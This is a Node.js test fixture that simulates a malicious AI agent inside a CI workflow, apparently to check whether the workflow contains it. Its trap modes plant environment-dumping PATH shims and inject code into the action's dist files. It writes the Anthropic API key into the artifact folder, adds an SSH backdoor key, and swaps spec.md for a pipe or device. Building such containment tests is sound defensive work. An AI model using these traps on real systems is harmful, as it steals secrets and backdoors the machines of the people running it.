// A malicious agent that lays traps for what runs after it: programs, the code of the steps, the artifact, the readers of
// its files. The request names the trap and where its catch goes. Context on standard input, contract on standard output.
import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';

const asked = JSON.parse(readFileSync(0, 'utf8'));
const [mode, out] = asked.USER_REQUEST.split(' into ');
const dir = asked.WORKFLOW_CONTEXT.feature_dir.replace(/\/$/, '');
const { bin, action } = JSON.parse(readFileSync('tools/targets.json', 'utf8'));
const temp = join(process.cwd(), '../../_temp');
const SPEC =
  '# Feature: Sum\n\n## User Story 1 - Add numbers (Priority: P1)\n\n- **FR-001**: The module MUST add two numbers.\n- **SC-001**: 1 and 2 are 3.\n';
const attempt = (act) => {
  try {
    return act();
  } catch (error) {
    return String(error);
  }
};
const note = (what) => appendFileSync(`${out}.notes`, `${JSON.stringify({ mode, ...what })}\n`);

mkdirSync(dir, { recursive: true });
rmSync(`${dir}/spec.md`, { force: true });
writeFileSync(`${dir}/spec.md`, SPEC);
const TRAPS = {
  honest: () => undefined,
  tools: () => {
    for (const name of ['git', 'unshare', 'setpriv', 'sudo', 'sh', 'mount', 'node']) {
      const file = join(bin, name);
      const done = attempt(() => {
        writeFileSync(
          file,
          `#!/bin/bash\n{ echo "ran ${name}"; env; } >> ${out}.tool\nrm -f ${file}\nPATH=/usr/bin:/bin:$PATH exec ${name} "$@"\n`,
        );
        chmodSync(file, 0o755);
      });
      note({ name, done: done ?? 'planted' });
    }
  },
  code: () => {
    const payload = `\nimport('node:fs').then((fs) => fs.appendFileSync('${out}.code', JSON.stringify({ mode: process.env.INPUT_MODE, names: Object.keys(process.env) }) + String.fromCharCode(10)));\n`;
    for (const name of attempt(() => readdirSync(join(action, 'dist'))) ?? [])
      note({ name, done: attempt(() => appendFileSync(join(action, 'dist', name), payload)) ?? 'changed' });
  },
  'code and a failure': () => {
    TRAPS.code();
    TRAPS.artifact();
    rmSync(join(temp, 'speckit-result'), { recursive: true, force: true });
    writeFileSync(join(temp, 'speckit-result'), 'no folder');
  },
  artifact: () => {
    note({ moved: attempt(() => execFileSync('mv', [temp, `${temp}-before`])) ?? 'moved' });
    attempt(() => mkdirSync(join(temp, 'speckit-result'), { recursive: true }));
    attempt(() =>
      writeFileSync(join(temp, 'speckit-result', 'leak.txt'), process.env.ANTHROPIC_API_KEY ?? 'no key'),
    );
    note({ left: existsSync(join(temp, 'speckit-result', 'leak.txt')) });
  },
  pipe: () => {
    rmSync(`${dir}/spec.md`);
    execFileSync('sh', ['-c', 'mkfifo "$1"', 'sh', `${dir}/spec.md`]);
  },
  'a device': () => {
    rmSync(`${dir}/spec.md`);
    execFileSync('ln', ['-s', '/dev/zero', `${dir}/spec.md`]);
  },
  door: () => {
    const folder = join(process.env.HOME ?? '', '.ssh');
    attempt(() => mkdirSync(folder, { recursive: true }));
    note({
      wrote:
        attempt(() => writeFileSync(join(folder, 'authorized_keys'), 'ssh-ed25519 AAAA evil\n')) ?? 'written',
    });
  },
};
TRAPS[mode]?.();
process.stdout.write(
  JSON.stringify({
    agent: asked.agent,
    status: 'success',
    timestamp: '2026-01-01T00:00:00Z',
    result: { summary: mode },
    error: null,
  }),
);
